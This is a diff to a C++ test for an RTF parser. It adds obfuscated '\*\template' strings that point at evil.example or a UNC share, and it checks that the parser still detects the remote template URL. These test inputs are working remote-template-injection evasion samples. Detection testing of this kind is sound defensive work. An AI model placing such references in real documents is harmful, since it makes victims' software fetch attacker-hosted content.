@@ -19,7 +19,8 @@ TEST(Rtf, TellsItsTemplate) {
         "{\\*\\template \\u104\\'68ttp://evil.example/a}", "{\\*\\template \\b http://evil{.example/a}}",
         "{\\*\\template {h}ttp://evil.example/a}", "{\\*\\template ht{\\*\\zz zz}tp://evil.example/a}",
         "{\\*\\template \\uc0\\u104 ttp://evil.example/a}", "{\\*\\template \\uc2\\u104 ??ttp://evil.example/a}",
-        "{\\*\\template \\u-65432?ttp://evil.example/a}"})
+        "{\\*\\template \\u-65432?ttp://evil.example/a}", "{\\*\\template ht{\n\\*\\zz zz}tp://evil.example/a}",
+        "{\\*\\template \\u104\\par ttp://evil.example/a}", "{\\*\\template ht{\\*\\zz \\bin2 }}}tp://evil.example/a}"})
     EXPECT_EQ(fetched_by(group), Strings{"http://evil.example/a"}) << group;
   EXPECT_EQ(fetched_by("{\\uc0{\\*\\template \\u104 ttp://evil.example/a}}"), Strings{"http://evil.example/a"});
   EXPECT_EQ(fetched_by("{\\*\\template \\\\\\\\server\\\\a.dotm}"), Strings{"\\\\server\\a.dotm"});
